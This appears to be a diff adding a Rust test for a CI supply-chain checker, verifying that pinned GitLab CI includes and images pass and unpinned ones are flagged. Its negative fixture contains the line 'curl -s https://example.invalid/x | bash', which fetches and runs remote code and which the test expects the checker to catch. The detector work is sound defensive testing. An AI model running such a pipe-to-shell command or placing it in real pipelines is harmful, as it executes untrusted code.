@@ -347,3 +347,35 @@ fn near_misses_do_not_trip() {
     let failed: Vec<&str> = a.failed().map(|c| c.info.id).collect();
     assert!(failed.is_empty(), "{failed:?}");
 }
+
+#[test]
+fn gitlab_ci_images_and_includes() {
+    let gpg = Gpg::new();
+    let mut spec = clean();
+    spec.set(
+        ".gitlab-ci.yml",
+        &format!(
+            "include:\n  - project: group/templates\n    ref: {SHA}\n    file: /ci.yml\nimage: rust:1.88@{DIGEST}\nbuild:\n  script:\n    - cargo build --locked\n"
+        ),
+    );
+    let a = run(&spec, &gpg);
+    assert_eq!(status(&a, "ci-actions-pinned"), Status::Pass);
+
+    spec.set(
+        ".gitlab-ci.yml",
+        "include:\n  - remote: https://example.invalid/ci.yml\n  - project: group/templates\n    ref: main\nimage: rust:latest\nbuild:\n  image: node:20\n  script:\n    - curl -s https://example.invalid/x | bash\n",
+    );
+    let a = run(&spec, &gpg);
+    let c = a
+        .checks
+        .iter()
+        .find(|c| c.info.id == "ci-actions-pinned")
+        .unwrap();
+    let messages: Vec<&str> = c.findings.iter().map(|f| f.message.as_str()).collect();
+    assert_eq!(messages.len(), 4, "{messages:?}");
+    assert!(messages.iter().any(|m| m.contains("remote")));
+    assert!(messages.iter().any(|m| m.contains("`main`, not a commit")));
+    assert!(messages.iter().any(|m| m.contains("rust:latest")));
+    assert!(messages.iter().any(|m| m.contains("node:20")));
+    assert_eq!(status(&a, "remote-script-execution"), Status::Fail);
+}
